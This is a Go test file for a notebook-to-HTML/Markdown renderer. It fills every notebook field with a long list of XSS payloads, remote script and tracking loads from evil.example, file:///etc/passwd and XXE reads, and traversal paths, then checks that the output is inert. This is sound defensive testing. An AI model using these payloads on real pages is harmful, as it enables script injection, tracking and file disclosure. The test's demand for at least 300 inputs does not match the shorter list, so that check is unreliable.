package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"mixmodel/kernel/display/typed"
	"mixmodel/kernel/nbformat"
	"mixmodel/report/internal/safe/safetest"
)

// hostile are inputs that have run scripts, sent requests or taken over pages
// somewhere. Each stands in every place of a notebook that can hold text.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script >`,
	`</script><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x` + "`" + `onerror=alert(1)//">`,
	`<img/src/onerror=alert(1)>`,
	`<img src=1 oNeRrOr=alert(1)>`,
	`<img src=javascript:alert(1)>`,
	`<img src="https://evil.example/track.png">`,
	`<img srcset="https://evil.example/track.png 2x">`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'%3E%3Cscript%3Ealert(1)%3C/script%3E%3C/svg%3E">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="java&#115;cript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="https://x.example" onclick="alert(1)" style="position:fixed;inset:0" target=_top ping=https://evil.example>x</a>`,
	`[x](javascript:alert(1))`,
	`[x](<javascript:alert(1)>)`,
	`[x](javascript&colon;alert(1))`,
	`[x](&#x6A;avascript:alert(1))`,
	"[x](java\\\nscript:alert(1))",
	"[x][r]\n\n[r]: javascript:alert(1)",
	"![x][r]\n\n[r]: https://evil.example/track.png",
	`![x](https://evil.example/track.png)`,
	`![x](javascript:alert(1))`,
	`![x](file:///etc/passwd)`,
	`![x](../../../../etc/passwd)`,
	`![x](attachment:../../x.svg)`,
	`![x](data:text/html,<script>alert(1)</script>)`,
	`![x" onerror="alert(1)](data:image/png;base64,iVBORw0KGgo=)`,
	`<javascript:alert(1)>`,
	"`` ` `` <img src=x onerror=alert(1)>",
	"$<img src=x onerror=alert(1)>$ $$</span><script>alert(1)</script>$$",
	`$\text{<script>alert(1)</script>}\href{javascript:alert(1)}{x}\class{"><script>}{x}$`,
	"$[x](javascript:alert(1))$",
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><script href="https://evil.example/x.js"/></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
	`<svg><set attributeName="href" to="javascript:alert(1)"/><use href="https://evil.example/x.svg#a"/></svg>`,
	`<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
	`<svg><image href="https://evil.example/x.png"/><style>@import url(https://evil.example/x.css);*{fill:url("https://evil.example/y")}</style></svg>`,
	`<svg><g style="fill:url(https://evil.example/z);background:\75rl(//evil.example)" fill="\75rl(//evil.example)"/></svg>`,
	`<svg><desc><img src=x onerror=alert(1)></desc><title><script>alert(1)</script></title></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><a xlink:href="javascript:alert(1)">x</a><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<math href="javascript:alert(1)"><mi>x</mi></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<style>body{background:url(https://evil.example/x)}</style>`,
	`<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/x.css>`,
	`<div style="background:url(https://evil.example/x);position:fixed;inset:0">x</div>`,
	`<link rel=prefetch href=https://evil.example/x><link rel=import href=https://evil.example/y>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<META HTTP-EQUIV="Refresh" CONTENT="0; URL=javascript:alert(1)">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<base href="https://evil.example/">`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<iframe src="javascript:alert(1)"></iframe><frameset onload=alert(1)><frame src=javascript:alert(1)>`,
	`<object data="https://evil.example/x.swf"><param name=x value=y></object><embed src="javascript:alert(1)"><applet code=x>`,
	`<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
	`<input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus><textarea autofocus onfocus=alert(1)>`,
	`<isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>`,
	`<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)><video poster=https://evil.example/x>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>`,
	`<body onload=alert(1)><html onclick=alert(1)>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<noembed><img src=x onerror=alert(1)></noembed><xmp><script>alert(1)</script></xmp><listing><img src=x onerror=alert(1)></listing><plaintext>`,
	`<title><script>alert(1)</script></title></title><script>alert(1)</script>`,
	`<textarea></textarea><script>alert(1)</script></textarea>`,
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><script>alert(1)</script> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<? <script>alert(1)</script> ?>`,
	`</main></body></html><script>alert(1)</script>`,
	`</details></div></pre></code><img src=x onerror=alert(1)>`,
	`" onmouseover="alert(1)" x="`,
	`' onmouseover='alert(1)' x='`,
	`"><script>alert(1)</script>`,
	`--></style></title></textarea><script>alert(1)</script>`,
	`]]></svg><script>alert(1)</script>`,
	"```\n<script>alert(1)</script>\n",
	"````\n```\n<script>alert(1)</script>",
	"~~~\n<script>alert(1)</script>",
	"<div>\n\n[x](javascript:alert(1))\n\n</div>",
	"<pre>\n\n\n[x](javascript:alert(1))\n\n<script>alert(1)</script></pre>",
	"| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |",
	"[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
	"\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b[31m<script>alert(1)</script>\x1b[0m",
	"\x1b[31m\"><img src=x onerror=alert(1)>\r<script>",
	`<a id="content" name="location">x</a><img name=body id=cookie><form id=forms><input name=attributes></form>`,
	`<p id="figure-1" class="skip notice bad" role="alert" accesskey=x contenteditable draggable=true popover>x</p>`,
	`<img data-ref="0" src=x><span data-math="i"><script>alert(1)</script></span><span data-math="d">\text{<img onerror=x>}</span>`,
	`<table background="https://evil.example/x"><td background="javascript:alert(1)"><table><caption><svg><p><style><img src=x onerror=alert(1)>`,
	"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
	"\ufeff<script>alert(1)</script>\x00<scr\x00ipt>alert(1)</script>",
	"<a href=https://x.example>ok</a> <b>bold</b>",
	`../../x.svg`,
	`<img src="../../x.svg"><img src="/etc/passwd"><img src="//evil.example/x.png">`,
	`<portal src=https://evil.example></portal><dialog open><button autofocus onfocus=alert(1)>x</button></dialog>`,
	`<div><button popovertarget=x onclick=alert(1)>a</button><canvas id=x></canvas><map name=m><area href="javascript:alert(1)"></map></div>`,
}

// notebookOf puts evil into every place.
func notebookOf(evil string) *nbformat.Notebook {
	out := func(mime string) nbformat.Output {
		o := nbformat.Output{Type: nbformat.DisplayData, Data: nbformat.MIMEBundle{}, Metadata: nbformat.Metadata{}}
		o.Data.SetText(mime, evil)
		o.Data.SetText("text/plain", evil)
		o.Metadata.Set(mime, map[string]string{"alt": evil, "caption": evil, "filename": evil, "width": evil, "height": evil})
		o.Metadata.Set("filename", evil)
		return o
	}
	drawn := out("image/svg+xml")
	drawn.Data.SetText("image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" `+evil+`>`+evil+`<path d="M0 0"/></svg>`)
	both := out("text/html")
	both.Data.SetText("text/markdown", evil)
	table := out("text/html")
	table.Data.SetText("text/html", "<table><caption>"+evil+"</caption><tr><th>"+evil+"<td>"+evil+"</table>")
	png := out("image/png")
	attached := nbformat.MIMEBundle{}
	attached.SetText("image/svg+xml", evil)
	code := func(source string, outs ...nbformat.Output) *nbformat.Cell {
		return &nbformat.Cell{Type: nbformat.Code, Source: source, ExecutionCount: 1, Outputs: outs}
	}
	nb := &nbformat.Notebook{Metadata: nbformat.Metadata{}}
	nb.Metadata.Set("title", evil)
	nb.Metadata.Set("authors", []map[string]string{{"name": evil}})
	nb.Metadata.Set("kernelspec", map[string]string{"language": "go", "display_name": evil})
	nb.Cells = []*nbformat.Cell{
		{Type: nbformat.Markdown, Source: "# " + evil},
		{Type: nbformat.Markdown, Source: evil, Attachments: map[string]nbformat.MIMEBundle{evil: attached, "../../x.svg": attached}},
		{Type: nbformat.Markdown, Source: "text " + evil + "\n\n![" + evil + "](attachment:../../x.svg)\n\n<img alt='" + evil + "' src='attachment:../../x.svg'>"},
		{Type: nbformat.Raw, Source: evil},
		code(evil, out("text/html"), out("image/svg+xml"), drawn, both, table, png, out("text/markdown"), out("text/latex"),
			out("text/plain"), out("application/javascript"), out("application/vnd.x+json"), out(evil),
			nbformat.Output{Type: nbformat.Stream, Name: "stdout", Text: evil}, nbformat.Output{Type: nbformat.Stream, Name: evil, Text: evil},
			nbformat.Output{Type: nbformat.Error, EName: evil, EValue: evil, Traceback: []string{evil, evil}}),
	}
	nb.Cells[4].Metadata = nbformat.Metadata{}
	nb.Cells[4].Metadata.Set("tags", []string{evil})
	nb.Cells = append(nb.Cells, code("//| label: "+evil+"\n//| fig-cap: "+evil+"\nx()", hostileResults(evil)...))
	return nb
}

// plainWords are the fields of typed results whose text is not free.
var plainWords = map[string]bool{"kind": true, "id": true, "tier": true, "group": true, "of": true, "want": true, "held": true, "color": true,
	"sha256": true, "from": true, "to": true, "good": true}

// hostileResults are the samples of typed results with evil in every text.
func hostileResults(evil string) []nbformat.Output {
	var list []nbformat.Output
	for _, sample := range typedSamples() {
		raw, err := json.Marshal(poison(sample, evil))
		if err != nil {
			panic(err)
		}
		o := nbformat.Output{Type: nbformat.DisplayData, Data: nbformat.MIMEBundle{typed.MIME: raw}, Metadata: nbformat.Metadata{}}
		o.Data.SetText("text/plain", evil)
		o.Data.SetText("image/svg+xml", square)
		list = append(list, o)
	}
	return list
}

// typedSamples are the samples of package typed, decoded; the simulator, whose
// names have tests of their own, is left out for its size.
var typedSamples = sync.OnceValue(func() []any {
	var list []any
	for _, kind := range []string{"kpi", "base", "channels", "diagnostics", "figure", "forecast", "manifest", "plan", "table"} {
		raw, err := os.ReadFile(filepath.Join("../../kernel/display/typed/testdata", kind+".json"))
		if err != nil {
			panic(err)
		}
		var v any
		if err := json.Unmarshal(raw, &v); err != nil {
			panic(err)
		}
		list = append(list, v)
	}
	return list
})

// poison returns v with every free text replaced.
func poison(v any, evil string) any {
	switch v := v.(type) {
	case string:
		return evil
	case []any:
		out := make([]any, len(v))
		for i := range v {
			out[i] = poison(v[i], evil)
		}
		return out
	case map[string]any:
		out := map[string]any{}
		for key, x := range v {
			out[key] = x
			if _, isText := x.(string); !isText || !plainWords[key] {
				out[key] = poison(x, evil)
			}
		}
		return out
	}
	return v
}

func TestNoHostileInputIsAliveInHTML(t *testing.T) {
	t.Parallel()
	if len(hostile) < 300 {
		t.Fatalf("%d hostile inputs, want at least 300", len(hostile))
	}
	typedShown := 0
	for _, profile := range []Profile{Tutorial, Stakeholder} {
		for i, evil := range hostile {
			start := time.Now()
			nb := notebookOf(evil)
			if profile == Stakeholder { // what differs there
				nb.Cells = append(nb.Cells[:2], nb.Cells[len(nb.Cells)-1])
			}
			page, err := HTML(nb, Options{Name: evil, Failure: evil, Profile: profile})
			if err != nil {
				t.Errorf("%d %q: %v", i, evil, err)
				continue
			}
			for _, f := range safetest.Check(string(page.Text), safetest.Rules{Page: true}) {
				t.Errorf("%s: %d %q: %s", profile, i, evil, f)
			}
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("%d %q took %v", i, evil, d)
			}
			typedShown += bytes.Count(page.Text, []byte(`class="lead"`))
		}
	}
	if typedShown < 300 {
		t.Errorf("%d reports were made of hostile results, want at least 300: the others did not parse", typedShown)
	}
}

// The most permissive reader of Markdown is one that passes HTML through.
func TestNoHostileInputIsAliveInMarkdown(t *testing.T) {
	t.Parallel()
	readers := map[string]goldmark.Markdown{
		"GitHub":     goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote), goldmark.WithRendererOptions(html.WithUnsafe())),
		"CommonMark": goldmark.New(goldmark.WithRendererOptions(html.WithUnsafe())),
	}
	for i, evil := range hostile {
		page, err := Markdown(notebookOf(evil), Options{Name: evil, Failure: evil, Profile: []Profile{Tutorial, Stakeholder}[i%2]}, false)
		if err != nil {
			t.Errorf("%d %q: %v", i, evil, err)
			continue
		}
		for name, md := range readers {
			var b strings.Builder
			if err := md.Convert(page.Text, &b); err != nil {
				t.Fatal(err)
			}
			for _, f := range safetest.Check(taskBoxes.Replace(b.String()), safetest.Rules{Assets: true}) {
				t.Errorf("%s: %d %q: %s", name, i, evil, f)
			}
		}
		for _, a := range page.Assets {
			if !assetName.MatchString(a.Name) {
				t.Errorf("%d %q: asset %q", i, evil, a.Name)
			}
			if strings.HasSuffix(a.Name, ".svg") {
				for _, f := range safetest.SVG(string(a.Data)) {
					t.Errorf("%d %q: %s: %s", i, evil, a.Name, f)
				}
			}
			if strings.HasSuffix(a.Name, ".csv") {
				for _, cell := range formulas(t, a.Data) {
					t.Errorf("%d %q: %s: a spreadsheet would compute %q", i, evil, a.Name, cell)
				}
			}
		}
	}
}

// formulas are the cells of a CSV that a spreadsheet would take for formulas.
func formulas(t *testing.T, data []byte) (list []string) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Error(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if _, err := strconv.ParseFloat(cell, 64); err != nil && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				list = append(list, cell)
			}
		}
	}
	return list
}

var taskBoxes = strings.NewReplacer(`<input disabled="" type="checkbox">`, "", `<input checked="" disabled="" type="checkbox">`, "",
	` style="text-align:right"`, "", ` style="text-align:left"`, "", ` style="text-align:center"`, "")

func TestTrustKeepsTheNotebookAndSaysSo(t *testing.T) {
	nb := notebookOf(`<script>alert(1)</script><b onclick="x()">b</b>`)
	page, err := HTML(nb, Options{Name: "x", Trust: true})
	if err != nil {
		t.Fatal(err)
	}
	text := string(page.Text)
	for _, want := range []string{"<script>alert(1)</script>", `onclick="x()"`, "Rendered with --trust"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %s in the page", want)
		}
	}
	if strings.Contains(text, "Content-Security-Policy") || strings.Contains(text, "runs no script") {
		t.Error("the page promises what it does not hold")
	}
	md, err := Markdown(nb, Options{Name: "x", Trust: true}, false)
	if err != nil || !strings.Contains(string(md.Text), "<script>alert(1)</script>") || !strings.Contains(string(md.Text), "--trust") {
		t.Errorf("Markdown: %v\n%s", err, md.Text)
	}
}

// Whatever a notebook holds, its page is harmless.
func FuzzPage(f *testing.F) {
	for i := 0; i < len(hostile); i += 8 { // the tests above take all
		f.Add(hostile[i])
	}
	md := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote), goldmark.WithRendererOptions(html.WithUnsafe()))
	f.Fuzz(func(t *testing.T, evil string) {
		nb := notebookOf(evil)
		page, err := HTML(nb, Options{Name: evil, Profile: []Profile{Tutorial, Stakeholder}[len(evil)%2]})
		if err != nil {
			t.Skip(err)
		}
		if faults := safetest.Check(string(page.Text), safetest.Rules{Page: true}); len(faults) > 0 {
			t.Fatalf("%q: HTML: %v", evil, faults)
		}
		book, err := Markdown(nb, Options{Name: evil}, false)
		if err != nil {
			t.Skip(err)
		}
		var b strings.Builder
		if err := md.Convert(book.Text, &b); err != nil {
			t.Skip(err)
		}
		if faults := safetest.Check(taskBoxes.Replace(b.String()), safetest.Rules{Assets: true}); len(faults) > 0 {
			t.Fatalf("%q: Markdown: %v\n%s", evil, faults, fmt.Sprintf("%.3000s", book.Text))
		}
	})
}
